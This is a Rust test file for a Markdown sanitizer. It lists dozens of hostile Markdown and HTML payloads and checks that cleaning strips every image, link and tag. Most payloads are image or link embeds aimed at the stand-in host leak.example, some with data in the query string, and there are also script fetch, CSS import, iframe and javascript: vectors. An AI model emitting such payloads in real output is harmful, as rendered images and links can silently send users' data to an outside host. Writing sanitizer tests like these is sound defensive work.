//! Hostile Markdown: each text shows an image or a link to a renderer of another make, and none after cleaning.

use crate::checker::in_markdown;
use crate::pixel;
use atoll_guard::markdown::clean;

pub(crate) const PAYLOADS: &[&str] = &[
    "![x](https://leak.example/?q=DATA)",
    "![](//leak.example)",
    "![x](relative.png)",
    "![x](<https://leak.example/a b> 'title')",
    "a ![x][ref] b\n\n[ref]: https://leak.example 'title'",
    "![ref]\n\n[REF]: https://leak.example",
    "![ref][]\n\n[ref]:\n   https://leak.example",
    "![one][a] ![two][b]\n\n[a]: //leak.example\n[a]: //leak.example/2\n[b]: //leak.example/3",
    "[x](https://leak.example)",
    "[x][r]\n\n[r]: https://leak.example",
    "[![x](//leak.example/a)](//leak.example/b)",
    "![a ![b](//leak.example/1) c](//leak.example/2)",
    "<https://leak.example>",
    "<me@leak.example>",
    "<img src=https://leak.example>",
    "text <img src='//leak.example'> more",
    "<div>\n<img src=//leak.example>\n</div>",
    "<div>\n![x](//leak.example)\n\n![y](//leak.example)\n</div>",
    "<script>\nfetch('//leak.example')\n\n![x](//leak.example)\n</script>",
    "<!-- ![x](//leak.example) -->\n\n![y](//leak.example)",
    "<style>@import '//leak.example'</style>",
    "| a |\n|---|\n| ![x](//leak.example) |",
    "> - 1. ![x](//leak.example)",
    "# ![x](//leak.example)",
    "note[^1]\n\n[^1]: ![x](//leak.example)",
    "$![x](//leak.example)$",
    "---\ntitle: ![x](//leak.example)\n---\n\n![y](//leak.example)",
    "~~![x](//leak.example)~~ **![y](//leak.example)**",
    "`code` ![`x`](//leak.example)",
    "\\![x](//leak.example)",
    "!\n![x\ny](//leak.example)",
    "![x](https://leak.example/`?q=|)",
    "![[](//leak.example)](//leak.example)",
    "[a](#b)[c](javascript:alert(1))",
    "<a\nhref=//leak.example>x</a>",
    "<svg><image href=//leak.example></svg>",
    "* <iframe src=//leak.example>\n\n  ![x](//leak.example)",
];

#[test]
fn no_image_no_link_and_no_tag_survives() {
    for payload in PAYLOADS {
        assert!(!in_markdown(payload).is_empty(), "the checker is blind: {payload}");
        let once = clean(payload).unwrap();
        assert_eq!(in_markdown(&once.text), [""; 0], "{payload} -> {}", once.text);
        assert!(once.changed, "in silence: {payload}");
        let twice = clean(&once.text).unwrap();
        assert_eq!((&twice.text, twice.changed), (&once.text, false), "{payload}");
    }
}

#[test]
fn every_pair_of_payloads_is_harmless_too() {
    for one in PAYLOADS {
        for other in PAYLOADS {
            for between in ["\n", "\n\n", " "] {
                let text = format!("{one}{between}{other}");
                let cleaned = clean(&text).unwrap();
                assert_eq!(in_markdown(&cleaned.text), [""; 0], "{text} -> {}", cleaned.text);
            }
        }
    }
}

#[test]
fn addresses_are_told_and_the_rest_reads_the_same() {
    let text = "# Sales\n\nSee [the **table**](https://a.example/?q=1) and ![a chart](https://b.example/c.png).\n";
    let cleaned = clean(text).unwrap();
    assert_eq!(
        cleaned.text,
        "# Sales\n\nSee the **table** (`https://a.example/?q=1`) and \\[image: a chart\\] `https://b.example/c.png`.\n"
    );
    let plain = "# A & B\n\n- x < y, y > z\n- `<img src=a>` and `![a](b)`\n\n```html\n<img src=x> ![a](b)\n```\n\n| a | b |\n|---|---|\n| 1<br>2 | H<sub>2</sub>O |\n\nA [1] and [x] and https://a.example!\n";
    let cleaned = clean(plain).unwrap();
    assert_eq!((cleaned.text.as_str(), cleaned.changed), (plain, false));
}

#[test]
fn a_picture_in_the_text_and_a_link_within_it_stay() {
    let text = format!("[up](#top) ![dot](data:image/png;base64,{})", pixel());
    let cleaned = clean(&text).unwrap();
    assert_eq!((cleaned.text, cleaned.changed), (text, false));
}

/// Each definition that goes makes the next of its name count.
#[test]
fn what_does_not_end_is_taken_out_by_force() {
    let text = format!("![a]\n\n{}", "[a]: //leak.example\n\n".repeat(100));
    assert!(!in_markdown(&text).is_empty());
    let cleaned = clean(&text).unwrap();
    assert_eq!(in_markdown(&cleaned.text), [""; 0]);
    assert!(clean(&"x".repeat(atoll_guard::markdown::MOST_BYTES + 1)).is_err());
}
